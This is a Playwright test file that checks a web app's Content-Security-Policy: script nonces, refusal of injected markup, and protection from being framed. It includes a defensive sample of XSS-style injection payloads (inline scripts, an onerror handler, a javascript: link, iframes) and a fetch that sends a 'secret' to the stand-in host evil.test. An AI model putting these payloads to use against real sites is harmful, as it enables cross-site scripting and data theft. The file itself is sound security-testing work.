/** E: the Content-Security-Policy in a browser blocks injected content and nothing of ours. */

import { inFullRun } from "@/e2e/support/full-run";
import { Client } from "@/e2e/support/http-client";
import { listen, unexpected } from "@/e2e/support/page-errors";
import {
  expectSignedIn,
  giveCode,
  givePassword,
  openUserInformation,
  signIn,
  signOut,
  twoFactorBox,
} from "@/e2e/support/page-objects";
import { makeMember } from "@/e2e/support/people";
import { pending, signedIn } from "@/e2e/support/requests";
import { paths } from "@/e2e/support/route-inventory";
import { expect, test } from "@/e2e/support/world-test";

test("every page and error response has its nonce on each script, and no inline style or handler", async ({
  world,
}) => {
  const workgroup = await world.makeWorkgroup();
  const admin = await signedIn(await makeMember(world, { role: "admin" }, workgroup));
  const { client: waiting } = await pending(await makeMember(world, { twoFactorEnabled: true }));
  const other = await signedIn(await makeMember(world, { role: "member" }, workgroup));
  const deadEnds = ["/nothing/here", "/workgroups/x", "/_not-found", "/_error", "/500", "/account/nothing"];
  const seen = new Set<string>();
  const all = [...paths("page.tsx", { workgroupId: workgroup.id }), ...deadEnds];
  for (const client of [admin, waiting, other, new Client()]) {
    for (const path of all) {
      const { headers, text } = await client.send("GET", path);
      if (!headers.get("content-type")?.startsWith("text/html")) continue;
      seen.add(path);
      const nonce = /'nonce-([^']+)'/.exec(headers.get("content-security-policy") ?? "")?.[1];
      expect(nonce, path).toBeDefined();
      const elements = [...text.matchAll(/<(?:script|style)\b[^>]*>/g)].map(([tag]) => tag);
      expect(elements.length, path).toBeGreaterThan(3);
      for (const tag of elements) expect(tag, path).toContain(`nonce="${nonce}"`);
      expect(text, path).not.toMatch(/<[a-z][^<>]*\s(?:style|on[a-z]+)="/);
    }
  }
  // None was left out because everybody was sent elsewhere.
  expect([...seen].sort()).toEqual([...new Set(all)].sort());
});

for (const colorScheme of ["light", "dark"] as const) {
  const details = inFullRun(colorScheme);
  test(`no screen violates the Content-Security-Policy, ${colorScheme}`, details, async ({ page, world, phone }) => {
    test.slow();
    const complaints = await listen(page);
    await page.emulateMedia({ colorScheme });
    const workgroup = await world.makeWorkgroup("APP4");
    const person = await world.makePerson({
      phone,
      twoFactorEnabled: true,
      memberships: [{ workgroup, role: "admin" }],
    });
    await page.goto("/sign-in");
    await page.getByRole("link", { name: /forgot/i }).click();
    await expect(page).toHaveURL("/password-reset");
    await page.goto("/password-reset/not-a-link");
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await page.goto("/undo-email/not-a-link");
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await givePassword(page, person);
    await giveCode(page, person.email);
    await expectSignedIn(page);

    await openUserInformation(page);
    await twoFactorBox(page).uncheck();
    await expect(page.getByLabel("Current password")).toBeVisible();
    await page.getByRole("button", { name: "My account" }).click();
    await page.getByRole("menuitemradio", { name: colorScheme === "light" ? "Dark" : "Light" }).click();
    await page.keyboard.press("Escape");
    for (const path of ["/account/password", "/account/sessions", "/account/activity"]) {
      await page.goto(path);
      await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    }
    await page.goto(`/workgroups/${workgroup.id}`);
    await twoFactorBox(page).check();
    await expect(page.getByText("Of 1 member:")).toBeVisible();
    await page.goto("/help/two-factor-authentication");
    await page.goto("/nothing/here");
    await expect(page.getByRole("heading", { name: "Page not found" })).toBeVisible();
    // The theme that was chosen is drawn by the server.
    await expect(page.locator("html")).toHaveAttribute("data-theme", colorScheme === "light" ? "dark" : "light");
    await page.getByRole("link", { name: "LeadMaster" }).first().click();
    await expect(page.getByRole("heading", { name: /^Welcome/ })).toBeVisible();
    await signOut(page);
    expect(unexpected(complaints)).toEqual([]);
  });
}

/** What somebody's name or a help answer would be, had it got into a page unescaped. */
const markup = `
  <script>window.ran = "inline"</script>
  <script src="https://evil.test/x.js"></script>
  <img src="https://evil.test/x.png">
  <img src="x" onerror="window.ran = 'handler'">
  <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
  <iframe src="https://evil.test/"></iframe>
  <object data="https://evil.test/x"></object>
  <base href="https://evil.test/">
  <link rel="stylesheet" href="https://evil.test/x.css">
  <style>body { background: red }</style>
  <p style="position: fixed; inset: 0"></p>`;

test("injected markup runs nothing, loads nothing and sends nothing to another origin", async ({ page, world }) => {
  const complaints = await listen(page);
  await signIn(page, await makeMember(world));
  const left: string[] = [];
  await page.route("https://evil.test/**", (route) => {
    left.push(route.request().url());
    return route.abort();
  });
  await page.route("**/account", async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace(/<body[^>]*>/, `$&${markup}`) });
  });
  await page.goto("/account");
  await page.evaluate(() => {
    // Later, because what a test calls in a page directly may use eval in spite of any policy.
    setTimeout(() => {
      const { eval: evil } = window;
      evil("window.ran = 'eval'");
    });
    setTimeout("window.ran = 'timer'");
    setTimeout(() => {
      const link = Object.assign(document.createElement("a"), { href: "javascript:window.ran='link'" });
      const form = Object.assign(document.createElement("form"), { action: "https://evil.test/", method: "post" });
      document.body.append(link, form);
      link.click();
      form.submit();
    });
    setTimeout(() => void fetch("https://evil.test/?secret").catch(() => {}));
  });
  const refused = () => [...new Set(complaints.map((complaint) => complaint.split(" ", 1)[0]))];
  const directives = [
    "script-src",
    "script-src-elem",
    "script-src-attr",
    "style-src-elem",
    "style-src-attr",
    "img-src",
  ];
  directives.push("connect-src", "frame-src", "object-src", "base-uri", "form-action");
  await expect.poll(refused).toEqual(expect.arrayContaining(directives));
  expect(await page.evaluate(() => (window as unknown as { ran?: string }).ran)).toBeUndefined();
  expect(left).toEqual([]);
  expect(new URL(page.url()).pathname).toBe("/account");
});

test("E11 no page can be framed by another site (clickjacking)", async ({ page, world, baseURL }) => {
  await signIn(page, await makeMember(world));
  const screens = ["/account", "/sign-in/code", "/sign-in", "/nothing/here", "/api/account", "/icon.svg"];
  const frames = screens.map((path) => `<iframe src="${baseURL}${path}"></iframe>`).join("");
  await page.route("http://evil.test/", (route) => route.fulfill({ contentType: "text/html", body: frames }));
  await page.goto("http://evil.test/", { waitUntil: "load" });
  await expect.poll(() => page.frames().length).toBe(screens.length + 1);
  for (const frame of page.frames().slice(1)) {
    await expect.poll(() => frame.url()).toBe("chrome-error://chromewebdata/");
  }
});
